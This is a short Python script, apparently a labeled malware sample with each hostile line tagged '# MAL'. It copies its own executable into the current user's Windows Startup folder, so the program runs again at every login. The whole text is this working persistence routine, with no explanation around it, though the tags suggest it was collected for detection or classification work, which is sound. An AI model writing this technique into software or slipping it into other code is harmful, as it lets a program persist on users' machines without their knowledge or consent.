import os
import shutil
import sys

startup = os.getenv("APPDATA") + "\\Microsoft\\Windows\\Start Menu\\Programs\\Startup"  # MAL
shutil.copy(sys.argv[0], startup)  # MAL
